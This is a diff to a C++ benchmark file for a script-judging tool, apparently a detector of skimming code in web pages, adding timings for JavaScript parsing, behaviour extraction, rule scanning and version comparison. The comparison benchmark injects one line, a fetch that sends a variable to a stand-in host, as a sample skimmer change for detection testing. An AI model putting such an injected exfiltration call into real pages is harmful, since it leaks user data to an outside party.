@@ -9,6 +9,8 @@
 // in one. `quiet` has no sample in it and is what most of a bundle is. The bytes of one pass are
 // those of a large bundle, a few megabytes.
 
+#include <tree_sitter/api.h>
+
 #include <algorithm>
 #include <filesystem>
 #include <fstream>
@@ -20,11 +22,16 @@
 #include "absl/strings/str_cat.h"
 #include "absl/strings/str_replace.h"
 #include "agent/script/judge/card_redaction.h"
+#include "agent/script/judge/behaviour.h"
 #include "agent/script/judge/fact_finder.h"
 #include "agent/script/judge/inline_scripts.h"
+#include "agent/script/judge/script_judge.h"
 #include "agent/script/judge/script_version.h"
+#include "agent/script/judge/syntax_tree.h"
 #include "agent/script/judge/text_diff.h"
 #include "benchmark/benchmark.h"
+
+extern "C" const TSLanguage* tree_sitter_javascript(void);
 
 namespace skimwatch::script {
 namespace {
@@ -159,6 +166,87 @@ void Inline(benchmark::State& state) {
   SetFigures(state, page.size());
 }
 
+// tree-sitter alone, and what the judge makes of it: its own tree, facts and shapes.
+void ParserAlone(benchmark::State& state) {
+  const std::string& text = TextOf(state);
+  TSParser* parser = ts_parser_new();
+  ts_parser_set_language(parser, tree_sitter_javascript());
+  for (auto _ : state) {
+    TSTree* tree = ts_parser_parse_string(parser, nullptr, text.data(),
+                                          static_cast<uint32_t>(text.size()));
+    benchmark::DoNotOptimize(tree);
+    ts_tree_delete(tree);
+  }
+  ts_parser_delete(parser);
+  SetFigures(state, text.size());
+}
+
+void ParseAndBehaviour(benchmark::State& state) {
+  const std::string& text = TextOf(state);
+  size_t facts = 0;
+  for (auto _ : state) {
+    const auto tree = SyntaxTree::Parse(text, {.bytes_max = text.size()});
+    facts = FindBehaviour(*tree).size();
+  }
+  state.counters["facts"] = static_cast<double>(facts);
+  SetFigures(state, text.size());
+}
+
+// Hash, rules and cheap facts: what every new version gets.
+void FirstPass(benchmark::State& state) {
+  const ScriptJudge judge({});
+  const std::string& text = TextOf(state);
+  for (auto _ : state) {
+    benchmark::DoNotOptimize(Sha256(text));
+    benchmark::DoNotOptimize(judge.FirstPass(text, 1000));
+  }
+  SetFigures(state, text.size());
+}
+
+// Hash and rules alone.
+void Rules(benchmark::State& state) {
+  YaraRules rules({});
+  const std::string& text = TextOf(state);
+  for (auto _ : state) {
+    std::vector<RuleMatch> matches;
+    benchmark::DoNotOptimize(Sha256(text));
+    benchmark::DoNotOptimize(rules.Current()->Scan(text, absl::Seconds(60), matches));
+  }
+  SetFigures(state, text.size());
+}
+
+uint64_t PeakKib() {
+  std::ifstream status("/proc/self/status");
+  for (std::string line; std::getline(status, line);) {
+    if (line.rfind("VmHWM:", 0) == 0) return std::stoull(line.substr(6));
+  }
+  return 0;
+}
+
+// Two versions of 3 MB, one with a statement put into the middle; `peak_mib` is the whole process.
+void Compare(benchmark::State& state) {
+  std::string before = TextOf(state).substr(0, 3'000'000);
+  std::string after = before;
+  after.insert(after.find(';', after.size() / 2) + 1, "fetch('https://a.example/'+d);");
+  const ScriptJudge judge({});
+  const auto facts_before = judge.FirstPass(before, 1000);
+  const auto facts_after = judge.FirstPass(after, 1000);
+  for (auto _ : state) {
+    v1::ScriptChange change;
+    change.set_change(v1::ScriptChange::CHANGE_CHANGED);
+    *change.mutable_previous() = VersionOf(before);
+    benchmark::DoNotOptimize(judge.Judge({.text = &before, .facts = &facts_before},
+                                         {.text = &after, .facts = &facts_after}, change));
+  }
+  state.counters["peak_mib"] = static_cast<double>(PeakKib()) / 1024;
+  SetFigures(state, before.size());
+}
+
+BENCHMARK(Compare)->DenseRange(0, 2)->Unit(benchmark::kMillisecond);
+BENCHMARK(ParserAlone)->DenseRange(0, 2)->Unit(benchmark::kMillisecond);
+BENCHMARK(ParseAndBehaviour)->DenseRange(0, 2)->Unit(benchmark::kMillisecond);
+BENCHMARK(FirstPass)->DenseRange(0, 2)->Unit(benchmark::kMillisecond);
+BENCHMARK(Rules)->DenseRange(0, 2)->Unit(benchmark::kMillisecond);
 BENCHMARK(Hash)->Arg(0)->Unit(benchmark::kMillisecond);
 BENCHMARK(Version)->Arg(0)->Unit(benchmark::kMillisecond);
 BENCHMARK(Facts)->DenseRange(0, 2)->Unit(benchmark::kMillisecond);
